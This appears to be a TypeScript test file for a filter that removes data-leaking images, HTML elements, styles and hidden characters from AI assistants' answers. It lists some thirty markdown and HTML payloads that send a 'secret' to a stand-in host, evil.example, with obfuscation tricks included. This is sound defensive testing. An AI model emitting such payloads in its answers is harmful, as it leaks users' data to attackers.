import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ExfiltrationFilter, withoutExfiltration } from '../../src/injection/exfiltration.ts';

const options = { allowedHosts: ['img.shop.example', '*.cdn.example'] };
const passed = (text: string) => withoutExfiltration(text, options).text;

const attacks: readonly (readonly [string, string])[] = [
  ['an image', '![a](https://evil.example/?d=secret)'],
  ['an image without a scheme', '![a](//evil.example/?d=secret)'],
  ['an image with a title and line ends', '![a\nb](\n<https://evil.example/?d=secret> "t")'],
  ['an image behind another sign', '!![a](https://evil.example/?d=secret)'],
  ['an image behind an image', '!![a](https://evil.example/?a)(https://evil.example/?d=secret)'],
  ['an image in an image', '![![a](https://evil.example/?d=secret)](https://img.shop.example/x)'],
  [
    'an element in the address of an image',
    '![a](https://img.shop.example/<img src="https://evil.example/?d=secret">)',
  ],
  ['an element in the title of an image', '![a](/x "<img src=https://evil.example/?d=secret>")'],
  ['an element in the alt of an image', '![<img src="https://evil.example/?d=secret">](/x)'],
  ['an image with brackets in its alt', '![[a]](https://evil.example/?d=secret)'],
  ['an image by reference', '![a][1]\n\n[1]: https://evil.example/?d=secret'],
  ['an image by its own name', '![a]\n\n[a]: https://evil.example/?d=secret'],
  ['an image with back slashes', '![a](https:\\\\evil.example/?d=secret)'],
  ['an image with a tab in its scheme', '![a](ht&Tab;tps://evil.example/?d=secret)'],
  ['an image with character references', '![a](&#104;ttps&colon;//evil.example/?d=secret)'],
  ['an image whose host ends like an allowed one', '![a](https://img.shop.example.evil.example/?d=secret)'],
  ['an image whose user is an allowed host', '![a](https://img.shop.example@evil.example/?d=secret)'],
  ['an element', '<img src="https://evil.example/?d=secret">'],
  ['an element in capitals over lines', '<IMG\n ALT=x\n SRC=https://evil.example/?d=secret\n>'],
  ['an element with a set of sources', "<img srcset='/a 1x, https://evil.example/?d=secret 2x'>"],
  ['a style', '<div style="background: url(https://evil.example/?d=secret)">x</div>'],
  ['a style sheet', '<link rel=stylesheet href=https://evil.example/?d=secret>'],
  ['a frame', '<iframe src=/x></iframe>'],
  ['a handler', '<b onmouseover="fetch(1)">x</b>'],
  ['a picture in a drawing', '<svg><image xlink:href="https://evil.example/?d=secret"/></svg>'],
  ['an element that is left open', 'x <img src="https://evil.example/?d=secret'],
  ['an element that is left open before another', '<img src=https://evil.example/?<b>'],
  ['a fence that is none, inside an element', '<div>\n```\n<img src="https://evil.example/?d=secret">\n```'],
  ['a fence that is none, with a back tick', '``` a`b\n![a](https://evil.example/?d=secret)'],
  ['an image after a fence', '```\ncode\n```\n![a](https://evil.example/?d=secret)'],
  ['an image after a fence that another sign does not close', '~~~\n```\n~~~\n![a](https://evil.example/?d=secret)'],
];

/** What a page would fetch, in the eyes of a reader as lenient as they come; code it does not know. */
const fetches = (text: string): boolean =>
  /!\[[^\]]*\][([]|!\[|<\s*[a-z][^>]*(?:evil|\son|srcset|iframe)|<iframe/i.test(text.replaceAll('&lt;', ''));

describe('an answer', () => {
  it.each(attacks)('fetches nothing by %s', (_, text) => {
    expect(fetches(text)).toBe(true);
    expect(fetches(passed(text))).toBe(false);
    expect(fetches(passed(`Here:\n${text}\nand so on.`))).toBe(false);
  });

  it('names the host that would have been asked', () => {
    expect(withoutExfiltration('![a](https://evil.example/?d=1)', options)).toEqual({
      text: ' (image removed: evil.example) ',
      removed: [{ rule: 'image', host: 'evil.example' }],
    });
  });

  it('loses characters that nobody sees', () => {
    const hidden = Array.from('secret', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('');
    expect(passed(`All is well.${hidden}\u202eabc`)).toBe('All is well.abc');
  });

  it.each([
    'Plain text, 1 < 2, a<b, and wow! [a](https://evil.example) is a link.',
    '![a](https://img.shop.example/a.png) and ![b](https://x.cdn.example/b.png "B") and ![c](/c.png)',
    '![a](data:image/png;base64,iVBORw0KGgo=) <https://evil.example> <b>bold</b> <br/>',
    '```html\n<img src="https://evil.example/a.png">\n![a](https://evil.example/)\n```\nand on',
    'Before\n\n~~~\n![a](https://evil.example/)\n~~~\n',
    'Wow! Great! 👨‍👩‍👧 می‌خواهم ❤️',
    '<a href="https://evil.example">click</a>',
  ])('that fetches nothing foreign stays as it is: %s', (text) => {
    expect(withoutExfiltration(text, options)).toEqual({ text, removed: [] });
  });

  it('comes out the same, however it is cut into pieces', () => {
    const signs = ['```\n', '~~~\n', '\n\n', '\n', '!', '![', '](', ')', '<', '<img ', '"', '>', ' ok ', '👍'];
    const words = fc.constantFrom(...attacks.map(([, text]) => text), ...signs, '\u{e0041}', '\udb40');
    fc.assert(
      fc.property(fc.array(words, { maxLength: 8 }), fc.array(fc.nat(400), { maxLength: 20 }), (parts, cuts) => {
        const text = parts.join('');
        const filter = new ExfiltrationFilter(options);
        const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].toSorted((a, b) => a - b);
        let out = '';
        for (const [index, place] of places.entries()) out += filter.push(text.slice(places[index - 1] ?? 0, place));
        out += filter.push(text.slice(places.at(-1) ?? 0)) + filter.end();
        expect(out).toBe(passed(text));
      }),
      { numRuns: 1_000 },
    );
    for (const [, text] of attacks) {
      for (let cut = 0; cut <= text.length; cut++) {
        const filter = new ExfiltrationFilter(options);
        expect(filter.push(text.slice(0, cut)) + filter.push(text.slice(cut)) + filter.end()).toBe(passed(text));
      }
    }
  });

  it('is held back only while it can still become an image', () => {
    const filter = new ExfiltrationFilter(options);
    const plain = 'Hello! This is 1 < 2 and a [link](https://x.example), wow';
    expect(filter.push(plain)).toBe(plain);
    expect(filter.push(' !')).toBe(' ');
    expect(filter.push('?')).toBe('!?');
  });
});
